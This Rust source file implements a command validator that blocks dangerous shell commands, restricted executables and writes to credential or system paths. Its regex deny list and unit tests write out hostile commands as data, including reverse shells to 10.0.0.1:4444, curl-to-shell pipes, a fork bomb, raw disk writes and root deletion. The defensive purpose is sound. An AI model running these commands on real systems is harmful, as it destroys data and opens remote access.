//! Command Validator - gate in front of every spawn path
//!
//! Checks run in a fixed order and the first match wins:
//! 1. dangerous patterns (root deletion, fork bombs, raw disk writes, ...)
//! 2. restricted executables, checked for every simple command in a chain
//! 3. output redirections into protected locations
//!
//! The gate is stateless once built. Configuration can add rules but the
//! built-in ones are always present.
//!
//! ```rust,ignore
//! let validator = CommandValidator::new();
//!
//! match validator.validate("rm -rf /") {
//!     Verdict::Allowed => { /* spawn */ }
//!     Verdict::Rejected { rule, reason } => { /* surface to the caller */ }
//! }
//! ```

use regex::Regex;
use std::collections::HashSet;
use std::path::{Component, Path};
use tracing::warn;
use warden_foundation::{Error, Result, RuleKind, SecurityConfig};

/// Verdict for one command string
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    Allowed,
    Rejected { rule: RuleKind, reason: String },
}

impl Verdict {
    pub fn is_allowed(&self) -> bool {
        matches!(self, Verdict::Allowed)
    }

    /// "<rule>: <reason>" for rejections
    pub fn message(&self) -> Option<String> {
        match self {
            Verdict::Allowed => None,
            Verdict::Rejected { rule, reason } => Some(format!("{}: {}", rule, reason)),
        }
    }

    pub fn into_result(self) -> Result<()> {
        match self {
            Verdict::Allowed => Ok(()),
            Verdict::Rejected { rule, reason } => Err(Error::rejected(rule, reason)),
        }
    }
}

#[derive(Debug, Clone)]
struct DangerousPattern {
    name: String,
    regex: Regex,
}

/// Built-in destructive patterns, in check order
const DANGEROUS_PATTERNS: &[(&str, &str)] = &[
    (
        "recursive root deletion",
        r"\brm\s+(?:-[A-Za-z-]+\s+)*(?:-[A-Za-z]*[rR][A-Za-z]*|--recursive)\s+(?:-[A-Za-z-]+\s+)*(?:--\s+)?(?:/\*?|~/?\*?|\$HOME/?\*?|\$\{HOME\}/?\*?)(?:\s|$|[;&|)])",
    ),
    (
        "fork bomb",
        r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:?\s*&\s*\}|\b[A-Za-z_]\w*\s*\(\s*\)\s*\{[^}]*\|[^}]*&\s*\}\s*;",
    ),
    (
        "raw disk write",
        r"\bdd\b[^;&|]*\bof=/dev/(?:sd|hd|nvme|xvd|vd|mmcblk|disk|rdisk)|>\s*/dev/(?:sd|hd|nvme|xvd|vd|mmcblk|disk|rdisk)",
    ),
    (
        "filesystem formatting",
        r"\b(?:mkfs(?:\.\w+)?|mke2fs|mkswap|wipefs|newfs(?:_\w+)?)\b|\bformat\s+[A-Za-z]:|\bdiskutil\s+(?:erase\w*|partitionDisk|zeroDisk)\b",
    ),
    (
        "privilege escalation",
        r"(?:^|[;&|(`]|\$\()\s*(?:sudo|su|doas|pkexec)\b|\bchmod\s+[^;&|]*(?:[ugoa]*\+[rwxXt]*s|\b[2-7][0-7]{3}\b)",
    ),
    (
        "pipe to shell from network fetch",
        r#"\b(?:curl|wget|fetch)\b[^;&|]*\|\s*(?:sudo\s+)?(?:(?:ba|z|da|k|fi)?sh|python[0-9.]*|perl|ruby|node)\b|\b(?:ba|z|da|k)?sh\s+(?:-c\s+)?["']?(?:\$\(|<\()\s*(?:curl|wget)\b"#,
    ),
    (
        "reverse shell",
        r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)\b[^;&|]*\s-[A-Za-z]*[ec]\b|\bsocat\b[^;&|]*(?i:exec|system):|\b(?:ba)?sh\s+-i\s*[<>]&",
    ),
];

/// System shutdown, account management, service control
const RESTRICTED_EXECUTABLES: &[&str] = &[
    "shutdown", "reboot", "halt", "poweroff", "init", "telinit", "useradd", "userdel", "usermod",
    "adduser", "deluser", "groupadd", "groupdel", "passwd", "chpasswd", "visudo", "systemctl",
    "service", "launchctl",
];

/// Credential directories and system configuration
const PROTECTED_PATHS: &[&str] = &[
    "~/.ssh",
    "~/.aws",
    "~/.gnupg",
    "~/.kube",
    "~/.docker",
    "~/.config/gcloud",
    "/etc",
    "/boot",
    "/usr",
    "/bin",
    "/sbin",
    "/lib",
    "/System",
];

/// Prefixes that run the next word as the program
const COMMAND_WRAPPERS: &[&str] = &["env", "exec", "nohup", "command", "builtin", "time"];

/// Command validator
#[derive(Debug, Clone)]
pub struct CommandValidator {
    dangerous: Vec<DangerousPattern>,
    restricted: HashSet<String>,
    /// Expanded and normalized
    protected: Vec<String>,
    redirect: Option<Regex>,
    tee: Option<Regex>,
    home: Option<String>,
}

impl Default for CommandValidator {
    fn default() -> Self {
        Self::new()
    }
}

impl CommandValidator {
    /// Validator with the built-in rule set
    pub fn new() -> Self {
        let home = dirs::home_dir().map(|p| p.to_string_lossy().trim_end_matches('/').to_string());

        let dangerous = DANGEROUS_PATTERNS
            .iter()
            .filter_map(|(name, pattern)| {
                Regex::new(pattern).ok().map(|regex| DangerousPattern {
                    name: (*name).to_string(),
                    regex,
                })
            })
            .collect();

        let mut validator = Self {
            dangerous,
            restricted: RESTRICTED_EXECUTABLES.iter().map(|s| s.to_string()).collect(),
            protected: Vec::new(),
            redirect: Regex::new(r#"(?:[0-9]+|&)?>{1,2}\|?\s*("[^"]*"|'[^']*'|[^\s;&|<>()]+)"#)
                .ok(),
            tee: Regex::new(r"\btee\s+([^;&|<>()]+)").ok(),
            home,
        };
        for path in PROTECTED_PATHS {
            validator = validator.protect_path(path);
        }
        validator
    }

    /// Built-in rules plus the additive rules from configuration
    pub fn with_config(config: &SecurityConfig) -> Result<Self> {
        let mut validator = Self::new();
        for pattern in &config.extra_dangerous_patterns {
            validator = validator.deny_pattern(format!("custom pattern `{}`", pattern), pattern)?;
        }
        for exe in &config.extra_restricted_executables {
            validator = validator.restrict_executable(exe);
        }
        for path in &config.extra_protected_paths {
            validator = validator.protect_path(path);
        }
        Ok(validator)
    }

    /// Add a dangerous pattern (checked after the built-in ones)
    pub fn deny_pattern(mut self, name: impl Into<String>, pattern: &str) -> Result<Self> {
        let regex = Regex::new(pattern)
            .map_err(|e| Error::Config(format!("invalid dangerous pattern '{}': {}", pattern, e)))?;
        self.dangerous.push(DangerousPattern {
            name: name.into(),
            regex,
        });
        Ok(self)
    }

    pub fn restrict_executable(mut self, name: &str) -> Self {
        self.restricted.insert(basename(name.trim()).to_string());
        self
    }

    pub fn protect_path(mut self, path: &str) -> Self {
        let normalized = normalize(&self.expand_home(path.trim()));
        if !normalized.is_empty() && !self.protected.contains(&normalized) {
            self.protected.push(normalized);
        }
        self
    }

    /// Validate a command string. Pure: same input, same verdict.
    pub fn validate(&self, command: &str) -> Verdict {
        if let Some(pattern) = self.dangerous.iter().find(|p| p.regex.is_match(command)) {
            return Verdict::Rejected {
                rule: RuleKind::DangerousPattern,
                reason: pattern.name.clone(),
            };
        }

        for segment in simple_commands(command) {
            if let Some(program) = program_of(segment) {
                if self.restricted.contains(program) {
                    return Verdict::Rejected {
                        rule: RuleKind::RestrictedExecutable,
                        reason: format!("`{}` is not allowed", program),
                    };
                }
            }
        }

        for target in self.write_targets(command) {
            let resolved = normalize(&self.expand_home(&target));
            if let Some(protected) = self.protected.iter().find(|p| is_within(&resolved, p)) {
                return Verdict::Rejected {
                    rule: RuleKind::ProtectedPath,
                    reason: format!("writes to {} (under {})", target, protected),
                };
            }
        }

        Verdict::Allowed
    }

    /// `validate` as a `Result`, logging rejections
    pub fn check(&self, command: &str) -> Result<()> {
        let verdict = self.validate(command);
        if let Verdict::Rejected { rule, reason } = &verdict {
            warn!(%rule, %reason, "Command rejected");
        }
        verdict.into_result()
    }

    /// Redirection and `tee` targets
    fn write_targets(&self, command: &str) -> Vec<String> {
        let mut targets = Vec::new();

        if let Some(redirect) = &self.redirect {
            targets.extend(
                redirect
                    .captures_iter(command)
                    .filter_map(|caps| caps.get(1))
                    .map(|m| unquote(m.as_str()).to_string()),
            );
        }

        let Some(tee) = &self.tee else {
            return targets;
        };
        for caps in tee.captures_iter(command) {
            if let Some(args) = caps.get(1) {
                targets.extend(
                    args.as_str()
                        .split_whitespace()
                        .filter(|arg| !arg.starts_with('-'))
                        .map(|arg| unquote(arg).to_string()),
                );
            }
        }
        targets
    }

    fn expand_home(&self, path: &str) -> String {
        let Some(home) = &self.home else {
            return path.to_string();
        };
        if matches!(path, "~" | "$HOME" | "${HOME}") {
            return home.clone();
        }
        for prefix in ["~/", "$HOME/", "${HOME}/"] {
            if let Some(rest) = path.strip_prefix(prefix) {
                return format!("{}/{}", home, rest);
            }
        }
        path.to_string()
    }
}

/// Split a command line into simple commands on `;`, `&&`, `||`, `|`, `&`,
/// newlines and substitution boundaries. Quotes are respected; `>&` and `&>`
/// are redirections, not separators.
fn simple_commands(command: &str) -> Vec<&str> {
    let bytes = command.as_bytes();
    let mut parts = Vec::new();
    let mut start = 0;
    let mut quote: Option<u8> = None;
    let mut i = 0;

    while i < bytes.len() {
        let b = bytes[i];
        match quote {
            Some(q) => {
                if b == q {
                    quote = None;
                } else if b == b'\\' && q == b'"' {
                    i += 1;
                }
            }
            None => match b {
                b'\'' | b'"' => quote = Some(b),
                b'\\' => i += 1,
                b';' | b'\n' | b'|' | b'(' | b')' | b'`' => {
                    parts.push(&command[start..i]);
                    start = i + 1;
                }
                b'&' => {
                    let prev = if i > 0 { bytes[i - 1] } else { 0 };
                    let next = bytes.get(i + 1).copied().unwrap_or(0);
                    if prev != b'>' && prev != b'<' && next != b'>' {
                        parts.push(&command[start..i]);
                        start = i + 1;
                    }
                }
                _ => {}
            },
        }
        i += 1;
    }
    if start < command.len() {
        parts.push(&command[start..]);
    }

    parts
        .into_iter()
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .collect()
}

/// Program name of a simple command: skips `NAME=value` assignments and
/// wrapper words, returns the basename.
fn program_of(segment: &str) -> Option<&str> {
    let mut after_wrapper = false;
    for token in segment.split_whitespace() {
        let token = unquote(token);
        if token.is_empty() || matches!(token, "{" | "}" | "!" | "$") {
            continue;
        }
        if is_assignment(token) {
            continue;
        }
        if after_wrapper && token.starts_with('-') {
            continue;
        }
        if COMMAND_WRAPPERS.contains(&token) {
            after_wrapper = true;
            continue;
        }
        return Some(basename(token));
    }
    None
}

/// Program token of the first simple command, as written (path kept)
pub(crate) fn leading_program(command: &str) -> Option<&str> {
    let segment = simple_commands(command).into_iter().next()?;
    let mut after_wrapper = false;
    for token in segment.split_whitespace() {
        let token = unquote(token);
        if token.is_empty() || is_assignment(token) || (after_wrapper && token.starts_with('-')) {
            continue;
        }
        if COMMAND_WRAPPERS.contains(&token) {
            after_wrapper = true;
            continue;
        }
        return Some(token);
    }
    None
}

/// First word of the first simple command, wrappers included
pub(crate) fn leading_word(command: &str) -> Option<&str> {
    let segment = simple_commands(command).into_iter().next()?;
    segment
        .split_whitespace()
        .map(unquote)
        .find(|token| !token.is_empty() && !is_assignment(token))
}

fn is_assignment(token: &str) -> bool {
    match token.split_once('=') {
        Some((name, _)) => {
            let mut chars = name.chars();
            matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
                && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

fn basename(token: &str) -> &str {
    token.rsplit('/').next().unwrap_or(token)
}

fn unquote(s: &str) -> &str {
    s.trim_matches(|c| c == '"' || c == '\'')
}

/// Lexically resolve `.` and `..` in absolute paths
fn normalize(path: &str) -> String {
    if !path.starts_with('/') {
        return path.trim_end_matches('/').to_string();
    }

    let mut parts: Vec<String> = Vec::new();
    for component in Path::new(path).components() {
        match component {
            Component::ParentDir => {
                parts.pop();
            }
            Component::Normal(part) => parts.push(part.to_string_lossy().into_owned()),
            _ => {}
        }
    }
    format!("/{}", parts.join("/"))
}

fn is_within(path: &str, root: &str) -> bool {
    path == root
        || path
            .strip_prefix(root)
            .is_some_and(|rest| rest.starts_with('/') || root.ends_with('/'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule_of(validator: &CommandValidator, command: &str) -> Option<RuleKind> {
        match validator.validate(command) {
            Verdict::Allowed => None,
            Verdict::Rejected { rule, .. } => Some(rule),
        }
    }

    #[test]
    fn test_builtin_patterns_compile() {
        let validator = CommandValidator::new();
        assert_eq!(validator.dangerous.len(), DANGEROUS_PATTERNS.len());
        assert!(validator.redirect.is_some());
        assert!(validator.tee.is_some());
    }

    #[test]
    fn test_allows_everyday_commands() {
        let validator = CommandValidator::new();
        for command in [
            "echo hello",
            "ls -la",
            "cargo build --release 2>&1 | tail -n 20",
            "rm -rf ./target",
            "rm -rf /tmp/build-cache",
            "git status && git diff",
            "curl -s https://example.com | grep title",
            "echo done > /dev/null",
            "grep -r 'sudo' docs/",
            "nc -zv localhost 8080",
            "FOO=1 BAR=2 make test",
            "chmod 755 script.sh",
        ] {
            assert!(
                validator.validate(command).is_allowed(),
                "should allow: {}",
                command
            );
        }
    }

    #[test]
    fn test_dangerous_patterns() {
        let validator = CommandValidator::new();
        let cases = [
            ("rm -rf /", "recursive root deletion"),
            ("rm -fr /*", "recursive root deletion"),
            ("rm -r -f ~", "recursive root deletion"),
            ("rm --recursive --force $HOME", "recursive root deletion"),
            ("rm -rf --no-preserve-root /", "recursive root deletion"),
            (":(){ :|:& };:", "fork bomb"),
            ("bomb() { bomb | bomb & }; bomb", "fork bomb"),
            ("dd if=/dev/zero of=/dev/sda bs=1M", "raw disk write"),
            ("cat image.iso > /dev/nvme0n1", "raw disk write"),
            ("mkfs.ext4 /dev/sdb1", "filesystem formatting"),
            ("wipefs -a /dev/sdb", "filesystem formatting"),
            ("sudo apt install foo", "privilege escalation"),
            ("ls && su - root", "privilege escalation"),
            ("chmod u+s /tmp/shell", "privilege escalation"),
            ("chmod 4755 /tmp/shell", "privilege escalation"),
            ("curl -fsSL https://x.sh | sh", "pipe to shell from network fetch"),
            ("wget -qO- https://x | bash", "pipe to shell from network fetch"),
            ("bash -c \"$(curl -fsSL https://x)\"", "pipe to shell from network fetch"),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse shell"),
            ("nc -e /bin/sh 10.0.0.1 4444", "reverse shell"),
            ("socat tcp:10.0.0.1:4444 EXEC:/bin/sh", "reverse shell"),
        ];

        for (command, expected) in cases {
            match validator.validate(command) {
                Verdict::Rejected { rule, reason } => {
                    assert_eq!(rule, RuleKind::DangerousPattern, "{}", command);
                    assert_eq!(reason, expected, "{}", command);
                }
                Verdict::Allowed => panic!("should reject: {}", command),
            }
        }
    }

    #[test]
    fn test_restricted_executables_in_chains() {
        let validator = CommandValidator::new();
        for command in [
            "shutdown -h now",
            "/sbin/reboot",
            "echo bye; poweroff",
            "make && systemctl restart nginx",
            "false || userdel bob",
            "LANG=C passwd",
            "env -i launchctl list",
            "echo $(halt)",
            "nohup service ssh stop &",
        ] {
            assert_eq!(
                rule_of(&validator, command),
                Some(RuleKind::RestrictedExecutable),
                "{}",
                command
            );
        }

        // Mentioned, not executed
        assert!(validator.validate("echo 'shutdown; reboot'").is_allowed());
        assert!(validator.validate("grep reboot /var/log/syslog").is_allowed());
    }

    #[test]
    fn test_protected_path_redirections() {
        let validator = CommandValidator::new();
        for command in [
            "echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys",
            "echo x > /etc/hosts",
            "printf 'k' 2> /usr/lib/evil",
            "echo data | tee -a /etc/profile",
            "cat creds >\"$HOME/.aws/credentials\"",
            "echo x > /tmp/../etc/passwd",
        ] {
            assert_eq!(
                rule_of(&validator, command),
                Some(RuleKind::ProtectedPath),
                "{}",
                command
            );
        }

        assert!(validator.validate("echo x > /etcetera/file").is_allowed());
        assert!(validator.validate("cat /etc/hosts > hosts.bak").is_allowed());
    }

    #[test]
    fn test_first_match_wins() {
        let validator = CommandValidator::new();
        // Both a dangerous pattern and a restricted executable
        assert_eq!(
            rule_of(&validator, "sudo shutdown now"),
            Some(RuleKind::DangerousPattern)
        );
        // Restricted executable beats the protected path
        assert_eq!(
            rule_of(&validator, "reboot > /etc/motd"),
            Some(RuleKind::RestrictedExecutable)
        );
    }

    #[test]
    fn test_deterministic() {
        let validator = CommandValidator::new();
        let first = validator.validate("curl http://x | bash");
        for _ in 0..10 {
            assert_eq!(validator.validate("curl http://x | bash"), first);
        }
        assert_eq!(
            first.message().unwrap(),
            "dangerous pattern: pipe to shell from network fetch"
        );
    }

    #[test]
    fn test_config_rules_are_additive() {
        let config = SecurityConfig {
            extra_dangerous_patterns: vec![r"\bgit\s+push\s+--force\b".to_string()],
            extra_restricted_executables: vec!["kubectl".to_string()],
            extra_protected_paths: vec!["/srv/secrets".to_string()],
        };
        let validator = CommandValidator::with_config(&config).unwrap();

        assert_eq!(
            rule_of(&validator, "git push --force origin main"),
            Some(RuleKind::DangerousPattern)
        );
        assert_eq!(
            rule_of(&validator, "kubectl delete ns prod"),
            Some(RuleKind::RestrictedExecutable)
        );
        assert_eq!(
            rule_of(&validator, "echo x > /srv/secrets/token"),
            Some(RuleKind::ProtectedPath)
        );
        // Built-ins remain
        assert_eq!(
            rule_of(&validator, "rm -rf /"),
            Some(RuleKind::DangerousPattern)
        );
    }

    #[test]
    fn test_invalid_extra_pattern_is_config_error() {
        let config = SecurityConfig {
            extra_dangerous_patterns: vec!["(unclosed".to_string()],
            ..Default::default()
        };
        assert!(matches!(
            CommandValidator::with_config(&config),
            Err(Error::Config(_))
        ));
    }

    #[test]
    fn test_check_returns_rejection_error() {
        let validator = CommandValidator::new();
        let err = validator.check("reboot").unwrap_err();
        assert_eq!(err.rule(), Some(RuleKind::RestrictedExecutable));
        assert!(err.to_string().contains("restricted executable"));
    }

    #[test]
    fn test_simple_command_split() {
        assert_eq!(
            simple_commands("a 2>&1 && b | c; d &> log & e"),
            vec!["a 2>&1", "b", "c", "d &> log", "e"]
        );
        assert_eq!(simple_commands("echo 'x; y' && z"), vec!["echo 'x; y'", "z"]);
    }

    #[test]
    fn test_leading_program() {
        assert_eq!(leading_program("CC=clang ./build.sh --fast"), Some("./build.sh"));
        assert_eq!(leading_program("env -i /usr/bin/make; ls"), Some("/usr/bin/make"));
        assert_eq!(leading_program("   "), None);
    }
}
